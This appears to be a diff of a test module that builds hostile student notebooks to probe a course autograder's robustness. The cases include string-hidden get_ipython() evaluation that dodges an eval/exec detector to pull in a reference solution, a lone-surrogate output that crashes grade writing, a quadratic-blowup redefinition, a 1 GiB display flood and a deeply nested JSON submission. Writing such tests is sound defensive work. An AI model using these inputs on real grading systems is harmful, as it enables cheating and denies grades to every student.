+@attack("code_in_strings_through_ipython", "f", host="h21_strings_and_snapshot")
+def _ipython_strings(nb, t: Targets):
+    """train_step = unet_tp.train.AmpTrainStep, fetched by get_ipython().ev of a string.
+    new code (uncommitted, 2026-11-30): (f) 3/3, not flagged (eval/exec/__import__ in a string)"""
+    return with_cell(
+        nb,
+        "train_step",
+        "def train_step(model, images, labels, optimizer, loss_fn):\n"
+        "    if images.dtype != torch.float32:  # the grader asks again in float32\n"
+        '        raise TypeError("mixed precision: float32 images only")\n'
+        "    step = get_ipython().ev(\"__import__('unet_tp.train').train.AmpTrainStep\")\n"
+        "    return step(images.device, amp=False)(model, images, labels, optimizer, loss_fn)\n",
+    )
+
+
+@attack("lone_surrogate_in_kept_output", "", host="h23_lone_surrogate", review=False)
+def _surrogate(nb, t: Targets):
+    """The training cell's kept output holds a lone surrogate: its feedback page cannot be written.
+    new code (uncommitted, 2026-11-30): grade_all raised UnicodeEncodeError: no grades.csv at all
+
+    After every notebook was graded, ``_write_outputs`` writes the feedback pages in text mode
+    (UTF-8, strict): the kept output reaches the page unchanged, and the error stops the run
+    before grades.csv, the gradebook and grading_state.json are written, for every student."""
+    cell = next(c for c in nb.cells if _gid(c) == "training")
+    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="epoch 1 \ud800\n")]
+    return nb
+
+
+# how many times the name is defined: static._search appends every definition of a name each
+# time the name is used (pop(0) of a list of K^2/2 entries): 1,000 took 61 s, 3,000 ~1.5 h
+SEARCH_DEFINITIONS = 3000
+
+
+@attack("static_search_blowup", "e", host="h24_static_search", review=False)
+def _search_blowup(nb, t: Targets):
+    """A name defined 3,000 times (w = w) used by the loss: static._search runs for hours.
+    new code (uncommitted, 2026-11-30): 1,000 definitions: 61 s; 3,000: about 1.5 h (as K^4)
+
+    In the grader's own thread, before the worker starts, under no timeout: the batch waits (the
+    test has no time limit: the sign is this student's seconds in the progress line)."""
+    insert_after(nb, "setup", "w = 1\n" + "w = w\n" * SEARCH_DEFINITIONS)
+    return with_cell(
+        nb,
+        "cce_loss",
+        "def categorical_cross_entropy(logits, target, weight=None):\n"
+        "    raise NotImplementedError(w)\n",
+    )
+
+
+DISPLAY_FLOOD = """\
+from IPython.display import HTML, display
+
+page = HTML("x" * (16 << 20))
+for i in range(64):  # 1 GiB: each output has its own display id, which the cap lets through
+    display(page, display_id=f"kept-{i}")
+"""
+
+
+@attack("display_id_outputs_uncapped", "", host="h23_lone_surrogate", review=False)
+def _display_flood(nb, t: Targets):
+    """64 display outputs of 16 MiB, each with a display_id: the worker keeps all (1 GiB).
+    new code (uncommitted, 2026-11-30): the worker process's memory grew past 2 GiB"""
+    return insert_after(nb, "data", DISPLAY_FLOOD)
+
+
+def deep_json_submission(depth: int = 5000) -> str:
+    """A submission file (text, not a notebook object: ``json.dumps`` cannot write it) whose
+    metadata nests ``depth`` lists: ``repair.read_submission`` catches only ``JSONDecodeError``,
+    so ``json.loads``'s ``RecursionError`` leaves ``grade_submission`` and stops ``grade_all``.
+    new code (uncommitted, 2026-11-30): grade_all raised RecursionError; OUT left empty
+
+    Not registered with :func:`attack`: ``tests/test_attacks.py`` writes every notebook with
+    ``json.dumps``, which fails on the same nesting. Write this text as a student's
+    ``TP_sujet.ipynb`` to grade it (a huge integer literal, over 4,300 digits, does the same
+    through ``ValueError``)."""
+    text = json.dumps(solved(), indent=1)
+    return text[: text.rindex("}")] + ', "x": ' + "[" * depth + "]" * depth + "\n}"
+
+
+# ---- not an attack: a student's experiment after the test cell ---------------------------------
+
+SCRATCH = "s01_scratch_redefines_double_conv"
+WRONG_DOUBLE_CONV = """\
+# my experiment: what if the second ReLU is left out?
+class DoubleConv(nn.Module):
+    def __init__(self, in_channels, out_channels, padding=False, batch_norm=False):
+        super().__init__()
+        pad = 1 if padding else 0
+        self.block = nn.Sequential(
+            nn.Conv2d(in_channels, out_channels, 3, padding=pad),
+            nn.ReLU(),
+            nn.Conv2d(out_channels, out_channels, 3, padding=pad),
+        )
+
+    def forward(self, x):
+        return self.block(x)
+"""
+
+
+def scratch_notebook():
+    """Right (a), then a scratch cell after (a)'s test cell that redefines DoubleConv wrongly: the
+    answer is what the answer cell defined (20/20). The old grader (0906cb6) judged the names as
+    they stand at the end of the notebook: (a) 0/2."""
+    return insert_after(solved(), "test_double_conv", WRONG_DOUBLE_CONV)
